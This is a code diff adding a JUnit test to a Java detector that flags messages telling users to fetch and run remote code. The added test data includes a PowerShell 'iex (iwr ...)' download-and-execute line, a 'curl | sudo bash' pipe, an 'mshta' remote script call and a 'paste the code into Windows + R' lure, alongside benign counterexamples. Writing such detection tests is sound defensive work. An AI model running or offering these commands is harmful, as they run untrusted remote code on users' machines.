@@ -69,4 +69,17 @@ class LexiconTest {
                 .isFalse();
         assertThat(Lexicon.asksToSignIn("I could not log in yesterday, the VPN was down.")).isFalse();
     }
+
+    @org.junit.jupiter.api.Test
+    void commandsThatFetchAndRunCodeAreFound() {
+        assertThat(Lexicon.runCommand("Please run this in PowerShell as admin:\n"
+                + "iex (iwr -UseBasicParsing https://paste.example.net/raw/k2j3)\nthanks")).startsWith("iex (iwr");
+        assertThat(Lexicon.runCommand("curl -fsSL https://get.example.org/fix.sh | sudo bash")).isNotEmpty();
+        assertThat(Lexicon.runCommand("mshta https://cdn.example.net/verify.hta")).isNotEmpty();
+        assertThat(Lexicon.pasteToRun("Press Windows + R, paste the code (Ctrl+V) and press Enter")).isTrue();
+        // commands that fetch nothing, and talk about commands
+        assertThat(Lexicon.runCommand("Get-Printer | Where-Object Name -like '*HP*' | Remove-Printer")).isEmpty();
+        assertThat(Lexicon.runCommand("sudo apt install uhd-host && uhd_find_devices")).isEmpty();
+        assertThat(Lexicon.runCommand("I downloaded the file with curl and ran the installer.")).isEmpty();
+    }
 }
